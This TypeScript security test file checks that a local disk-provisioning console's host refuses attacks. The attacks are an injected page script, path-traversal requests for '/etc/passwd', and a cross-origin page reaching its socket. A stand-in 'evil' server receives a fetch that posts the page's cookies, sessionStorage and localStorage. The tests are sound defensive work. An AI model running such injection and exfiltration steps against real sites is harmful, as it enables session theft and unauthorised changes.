// What the host refuses, whatever a page does: a script in the window, another page in the same browser, old tokens. The
// window's rules are courtesy; these are the protection.
import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { test } from 'node:test'
import type { Consent } from '#host/consent.ts'
import { createSigningKey } from '#node/release/signing-key.ts'
import { visit } from '#testing/web-visitor.ts'
import { openWindow, type Window } from './browser.ts'
import { en } from './hands.ts'
import { browserOnly, consoleSpec } from './spec.ts'

const asked: unknown[] = []
const refuse: Consent = {
  write: null,
  async change(changes) {
    asked.push(changes)
    return 'the terminal answered no'
  },
}
const spec = consoleSpec({ disks: ['alpha', 'beta'], settings: { neverTouch: ['SN-PRECIOUS'] }, consent: refuse })
const { skip } = spec

/** A script in the page with a line of its own to the host: what an injected one would have. The app's bridge is that line. */
const INJECT = `window.attack = window.twinslot ? (call, params) => window.twinslot.call({ id: 1, call, params }) : (() => {
  const line = new WebSocket('ws://' + location.host + '/ws')
  // What the page holds, a script in it holds as well.
  const open = new Promise((resolve, reject) => {
    line.onopen = () => line.send(JSON.stringify({ session: sessionStorage.getItem('twinslot.session') }))
    line.onerror = () => reject(new Error('refused'))
    line.onmessage = ({ data }) => {
      const said = JSON.parse(data)
      if ('session' in said) resolve()
      else waiting.get(said.id)?.(said)
    }
  })
  const waiting = new Map()
  let last = 0
  return async (call, params) => {
    await open
    const id = ++last
    return await new Promise((resolve) => { waiting.set(id, resolve); line.send(JSON.stringify({ id, call, params })) })
  }
})(); 0`

interface Answer {
  readonly ok: boolean
  readonly value?: unknown
  readonly problem?: { readonly code: string }
}

async function attacker(window: Window): Promise<(call: string, params: unknown) => Promise<Answer>> {
  await window.page.evaluate(INJECT)
  return async (call, params) =>
    (await window.page.evaluate(`attack(${JSON.stringify(call)}, ${JSON.stringify(params)})`)) as Answer
}

async function planFor(say: (call: string, params: unknown) => Promise<Answer>, unit: string): Promise<string> {
  const { images } = await spec.station.view()
  const units = [(await spec.station.unit(unit)).token]
  const wish = { boot: null, layout: 'hp-t640', slots: 'A', config: null, allowOlder: null }
  const { value } = await say('plan.provision', { units, image: images[0].token, ...wish })
  return (value as { plans: { plan: string }[] }).plans[0].plan
}

test('a script in the page starts nothing: too early, with another text, for another plan, or twice', {
  skip,
}, async () => {
  await using window = await spec.station.open()
  const say = await attacker(window)
  const plan = await planFor(say, 'alpha')
  const codeOf = async (call: string, params: unknown) => (await say(call, params)).problem?.code
  const { value } = await say('confirm.begin', { plans: [plan] })
  assert.ok(value)
  const { challenge, expected } = value as { challenge: string; expected: string }
  assert.equal(await codeOf('confirm.start', { challenge, typed: expected }), 'host.confirmed-early')
  await window.page.waitForTimeout(2100)
  assert.equal(await codeOf('confirm.start', { challenge, typed: '' }), 'host.not-confirmed')
  assert.equal(await codeOf('confirm.start', { challenge, typed: 'beta' }), 'host.not-confirmed')
  assert.equal(await codeOf('confirm.start', { challenge: 'f'.repeat(32), typed: expected }), 'host.unknown-token')
  assert.equal(await codeOf('confirm.begin', { plans: ['0'.repeat(64)] }), 'host.plan-gone')
  assert.equal(await codeOf('confirm.start', { challenge, typed: expected, plan: '0'.repeat(64) }), 'host.bad-call')
  assert.equal(await codeOf('runner.apply', { plan }), 'host.bad-call')
  // A new plan for the unit ends the old one: what was confirmed is not what would be written.
  await planFor(say, 'alpha')
  assert.equal(await codeOf('confirm.start', { challenge, typed: expected }), 'host.plan-gone')
  assert.equal((await spec.station.view()).batches.length, 0)
})

test('a path is no token: what the page names is never opened', { skip }, async () => {
  await using window = await spec.station.open()
  const say = await attacker(window)
  for (const file of ['/etc/passwd', spec.station.disk('alpha'), '../../etc/passwd'])
    for (const call of ['image.import', 'bench.add-file'])
      assert.ok(['host.unknown-token', 'host.bad-call'].includes((await say(call, { file })).problem?.code ?? ''))
})

const origin = 'addresses of the browser host'

test('what guards a write is not changed by the page: each change asks outside of it, and is refused without a yes', {
  skip: browserOnly('the box of the app is no page'),
}, async () => {
  await using window = await spec.station.open()
  const say = await attacker(window)
  const before = await spec.station.view()
  const [{ fingerprint }] = before.keys
  const key = await createSigningKey({ name: 'Mallory', now: new Date('2026-01-01') })
  const tried: readonly (readonly [string, unknown])[] = [
    ['trust.import', { armored: key.public }],
    ['trust.remove', { fingerprint }],
    ['settings.change', { assistive: true }],
    ['settings.change', { neverTouch: [] }],
    ['settings.change', { theme: 'dark', neverTouch: ['OTHER'] }],
  ]
  for (const [call, params] of tried) assert.equal((await say(call, params)).problem?.code, 'host.guarded', call)
  assert.equal(asked.length, tried.length)
  const after = await spec.station.view()
  assert.deepEqual([after.keys, after.settings], [before.keys, before.settings])
})

test('a foreign port of this computer that the browser visits receives nothing that opens the console', {
  skip: browserOnly(origin),
}, async () => {
  const { web } = spec.station.host
  await using window = await spec.station.open()
  const { page } = window
  const received: string[] = []
  const server = createServer((request, response) => {
    let body = ''
    request.on('data', (part: Buffer) => {
      body += part.toString('latin1')
    })
    request.on('end', () => {
      received.push(`${request.method} ${request.url} ${JSON.stringify(request.rawHeaders)} ${body}`)
      response.setHeader('content-type', 'text/html').end('<p>evil</p>')
    })
  })
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready))
  const evil = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  try {
    const session = String(await page.evaluate(`sessionStorage.getItem('twinslot.session')`))
    assert.ok(session.length > 20)
    assert.deepEqual(await page.context().cookies(), [])
    // A link, and the same tab going there; a second tab; what the page there can do.
    await page.evaluate(`window.open('${evil}/opened')`).catch(() => null)
    await page.goto(`${evil}/visited`)
    await page.evaluate(
      `fetch('/posted', { method: 'POST', body: JSON.stringify([document.cookie, document.referrer, { ...sessionStorage }, { ...localStorage }, window.name, location.href]) })`,
    )
    const beside = await page.context().newPage()
    await beside.goto(`${evil}/beside`)
    const tried = await beside.evaluate(`Promise.all(['', 'x'.repeat(43)].map((session) => new Promise((resolve) => {
      const line = new WebSocket('ws://127.0.0.1:${web.port}/ws')
      line.onopen = () => line.send(JSON.stringify({ session }))
      line.onmessage = () => resolve('let in')
      line.onclose = () => resolve('refused')
    })))`)
    assert.deepEqual(tried, ['refused', 'refused'])
    assert.ok(received.length >= 2)
    for (const line of received) {
      assert.ok(!line.includes(session), line)
      assert.doesNotMatch(line, /cookie"|enter#/i, line)
      assert.ok(!line.includes(`127.0.0.1:${web.port}`), line)
    }
    // Another user of this computer needs no browser and forges every header; what was received opens nothing.
    for (const secret of received.flatMap((line) => line.match(/[\w-]{20,}/g) ?? []))
      assert.equal(await visit(`http://127.0.0.1:${web.port}/enter#${secret}`, secret.slice(0, 100)), null)
    await page.goBack()
    await page.locator('#main h1').waitFor()
  } finally {
    server.closeAllConnections()
    await new Promise((done) => server.close(done))
  }
})

test('a reload in the same tab goes on; a second tab needs an address of its own', {
  skip: browserOnly(origin),
}, async () => {
  const { web } = spec.station.host
  await using window = await spec.station.open()
  const { page } = window
  await page.reload()
  await page.locator('#main h1').waitFor()
  assert.doesNotMatch(page.url(), /enter/)
  const second = await page.context().newPage()
  await second.goto(`http://127.0.0.1:${web.port}/`)
  await second.getByText(en('app.shut')).waitFor()
  await second.goto(web.newUrl())
  await second.locator('#main h1').waitFor()
})

test('a page of another origin gets neither a socket nor an answer', {
  skip: browserOnly('addresses of the browser host'),
}, async () => {
  const { web } = spec.station.host
  await using window = await spec.station.open()
  const server = createServer((_request, response) =>
    response.setHeader('content-type', 'text/html').end('<p>evil</p>'),
  )
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready))
  try {
    const evil = await window.page.context().newPage()
    await evil.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`)
    const socket = await evil.evaluate(`new Promise((resolve) => {
      const line = new WebSocket('ws://127.0.0.1:${web.port}/ws')
      line.onopen = () => resolve('open')
      line.onerror = () => resolve('refused')
    })`)
    assert.equal(socket, 'refused')
    const read = await evil.evaluate(`fetch('http://127.0.0.1:${web.port}/', { credentials: 'include' })
      .then((answer) => answer.text(), () => 'refused')`)
    assert.equal(read, 'refused')
    const framed = await evil.evaluate(`new Promise((resolve) => {
      const frame = document.createElement('iframe')
      frame.onload = () => { try { resolve(frame.contentDocument ? 'open' : 'closed') } catch { resolve('closed') } }
      frame.src = 'http://127.0.0.1:${web.port}/'
      document.body.append(frame)
    })`)
    assert.equal(framed, 'closed')
  } finally {
    server.closeAllConnections()
    await new Promise((done) => server.close(done))
  }
})

test('an address works once, and without one nothing is shown', { skip: browserOnly(origin) }, async () => {
  const { web } = spec.station.host
  const address = web.newUrl()
  await using first = await openWindow()
  await first.page.goto(address)
  await first.page.locator('#main h1').waitFor()
  await using second = await openWindow()
  await second.page.goto(address)
  await second.page.getByText(en('app.shut')).waitFor()
  await second.page.goto(`http://127.0.0.1:${web.port}/`)
  await second.page.getByText(en('app.shut')).waitFor()
  const rebound = await second.page.goto(`http://localhost.localdomain:${web.port}/`).catch(() => null)
  assert.ok(rebound === null || rebound.status() === 421)
})
